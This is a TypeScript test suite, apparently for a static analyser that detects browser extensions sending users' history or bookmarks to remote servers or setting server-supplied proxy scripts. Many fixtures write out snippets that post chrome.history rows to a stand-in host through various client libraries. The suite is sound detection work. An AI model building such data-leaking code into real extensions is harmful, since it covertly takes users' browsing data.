import { expect, test } from 'vitest';
import { factsOf } from '../testing/examples.ts';
import { graded } from '../testing/graded.ts';
import { sample } from '../testing/sample.ts';
import { flowsOf } from './flowsOf.ts';

/** Where the history is sent to, by programs in which a client of a server is told by its use alone. */
async function receivers(body: string): Promise<readonly (string | undefined)[]> {
  const background = `((lib, make) => chrome.history.search({ text: '' }, async (rows) => { ${body} }))(...self.load());`;
  const { flows } = (await factsOf(sample({ background }))).whole(flowsOf);
  return [...new Set(flows.filter(({ sink }) => sink.kind === 'network').map(({ sink }) => sink.to))];
}

/** In place of a library that was shortened: nothing is known of what `lib` and `make` are. */
test.each([
  [
    'a path, made with a base',
    `const api = lib.create({ baseURL: 'https://a.example/v1/' }); api.post('/rows', rows);`,
  ],
  [
    'a path that a client which is a function is called with',
    `const api = lib.create({ baseURL: 'https://a.example/v1/' }); api('/rows', { method: 'POST', body: rows });`,
  ],
  [
    'a whole address that a function is called with',
    `make('https://a.example/v1/rows', { method: 'POST', body: rows });`,
  ],
  ['a whole address', `lib.post('https://a.example/v1/rows', { rows });`],
  ['a description', `lib({ url: 'https://a.example/v1/rows', method: 'post', data: rows });`],
  ['an address that is read with parameters', `lib.get('https://a.example/v1/rows', { params: { rows } });`],
  ['a base that is set later', `lib.defaults.baseURL = 'https://a.example/v1'; lib.post('/rows', { rows });`],
])('tells an address of %s', async (_, body) => {
  expect(await receivers(body)).toEqual(['https://a.example/v1/rows']);
});

test.each([
  ['a query that is put together', `make('https://a.example', 'key').from('rows').insert(rows);`],
  ['a socket', `const s = make('https://a.example'); s.on('connect', () => s.emit('rows', rows));`],
  ['a builder', `const hub = new lib.Builder().withUrl('https://a.example').build(); hub.invoke('Rows', rows);`],
  ['a client that was started', `lib.init('key', { api_host: 'https://a.example' }); lib.capture('rows', { rows });`],
])('tells the server of %s', async (_, body) => {
  expect(await receivers(body)).toEqual(['https://a.example']);
});

test('tells that a request goes where the program is told', async () => {
  expect(await receivers(`lib.post(self.home + '/rows', { body: rows });`)).toEqual(['*']);
});

test.each([
  ['a path behind a name', `lib.push(self.home + '/rows', { rows }); lib.post(self.home, rows);`],
  ['an address that is put together', `const u = new URL('https://a.example'); u.searchParams.append('q', rows);`],
  ['an element', `const a = document.createElement('a'); a.href = 'https://a.example'; a.append(rows);`],
  ['a message', `chrome.runtime.sendMessage({ url: 'https://a.example', type: 'open', data: rows });`],
  ['a list', `const list = [{ url: 'https://a.example' }]; list.push(rows);`],
  ['a map of paths', `const m = new Map(); m.set('https://a.example', rows); m.get('https://a.example');`],
  ['a panel with a link for help', `const p = make({ help: 'https://a.example' }); p.render(rows); p.setRows(rows);`],
  ['a path of no known server', `make('/rows', { method: 'POST', body: rows });`],
  ['options that name no method', `make('https://a.example/v1/rows', { data: rows });`],
  ['an answer', `const r = await fetch('https://a.example'); r.push(rows);`],
])('is not taken in by %s', async (_, body) => {
  expect(await receivers(body)).toEqual([]);
});

/** `app` is what `initializeApp` gives; minifiers put functions that are called once right where they are called. */
test.each([
  ['a function', 'make(lib(app), { rows });'],
  ['a function that stands where it is called', '(function (rows, row) { lib(rows, row); })(lib(app), { rows });'],
  ['a batch', 'const batch = make(app); batch.set(lib(make(app)), { rows }); batch.commit();'],
])('knows an app of Firebase that %s is handed', async (_, use) => {
  expect(await receivers(`const app = make({ projectId: 'p', apiKey: 'k' }); ${use}`)).toEqual([
    'https://firestore.googleapis.com/',
  ]);
  expect(await receivers(`const app = make({ projectId: 'p' }, 'apiKey'); ${use}`)).toEqual([]);
});

/** Eight fields, each given all others: followed by every way between them, one call would take a second. */
test.each(["this.a.post('/v1', {});", 'make(this.a, {});'])(
  'asks each field once where fields are given one another: %s',
  async (use) => {
    const names = [...'abcdefgh'];
    const given = names.flatMap((one) =>
      names.filter((other) => other !== one).map((other) => `this.${one} = this.${other};`),
    );
    const uses = Array.from({ length: 300 }, (_, at) => `m${at}(make) { ${use} }`);
    const app = "const options = { apiKey: 'k', projectId: 'p' };";
    expect(
      await receivers(`${app} class Q { constructor() { ${given.join(' ')} } ${uses.join(' ')} } new Q();`),
    ).toEqual([]);
  },
);

/** Which proxy is used, as told by what a client of a server gives. */
const proxied = (made: string, asked: string): Promise<string> =>
  graded({
    background: `((lib, make) => { ${made}; chrome.alarms.onAlarm.addListener(async () => { const told = ${asked}; chrome.proxy.settings.set({ value: { mode: 'pac_script', pacScript: { data: told.pac } } }); }); })(...self.load());`,
  });

test.each([
  [
    'a path without a slash',
    "const api = lib.create({ prefixUrl: 'https://a.example' })",
    "await api.get('pac').json()",
  ],
  ['a function', "const api = lib.create({ baseURL: 'https://a.example' })", "await api('/pac')"],
  ['a function that is told all', '', "await lib('https://a.example/pac').json()"],
  ['a query', "const api = new make('https://a.example/graphql')", "await api.request('query { pac }')"],
  ['a table', "const api = make('https://a.example', 'key')", "(await api.from('pacs').select('*')).data[0]"],
])('takes the answer to %s for a server’s', async (_, made, asked) => {
  expect(await proxied(made, asked)).toBe('B');
});

test.each([
  ['a map', "const api = new Map(), other = lib({ baseURL: 'https://a.example' })", "api.get('pac')"],
  ['a function', "const other = lib({ baseURL: 'https://a.example' })", "make('pac')"],
  ['a list of choices', '', "make.pick('pacs').select('*')"],
])('takes what %s gives for no answer', async (_, made, asked) => {
  expect(await proxied(made, asked)).toMatch(/^A/);
});

test('is sure of a client through whose own code the data are seen to leave', async () => {
  const taken = (emit: string): Promise<string> =>
    graded({
      manifest: { permissions: ['bookmarks', 'alarms'] },
      background: `const make = (url) => ({ emit(name, data) { ${emit} } }); const line = make('https://a.example'); chrome.alarms.onAlarm.addListener(() => chrome.bookmarks.getTree((all) => line.emit('all', all)));`,
    });
  expect(await taken("fetch(self.server, { method: 'POST', body: JSON.stringify(data) });")).toMatch(/[DF]/);
  expect(await taken('self.shown = data;')).toBe('C');
});
